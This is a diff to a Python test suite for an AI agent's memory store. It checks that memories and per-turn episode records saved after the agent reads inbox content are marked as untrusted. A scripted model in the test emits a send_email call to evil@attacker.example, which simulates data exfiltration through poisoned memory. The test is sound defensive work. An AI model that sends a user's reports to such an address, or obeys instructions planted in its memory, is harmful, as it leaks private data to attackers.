@@ -311,6 +311,10 @@ async def test_a_memory_saved_after_reading_outside_content_stays_outside_conten
         [saved] = [m for m in await store.memories("user:ana", "manual") if m.key == "reports"]
         assert saved.content.startswith('<untrusted_content source="remember after reading '
                                         'read_inbox"')
+        # So is what the post-turn jobs keep of that turn (its episode).
+        [episode] = await store.memories("user:ana", "episode")
+        assert episode.content.startswith('<untrusted_content source="episode of a turn that '
+                                          'read outside content"')
 
         later = ScriptedModel([reply("", call("send_email", to="evil@attacker.example",
                                               subject="report", body="the report")),
@@ -332,5 +336,7 @@ async def test_a_memory_saved_after_reading_outside_content_stays_outside_conten
         await agent.aclose()
         [mine] = await store.memories("user:bo", "manual")
         assert mine.content == "Boss is b@corp.example"
+        [episode] = await store.memories("user:bo", "episode")
+        assert episode.content.startswith("User: Remember that my boss")
     finally:
         await store.aclose()
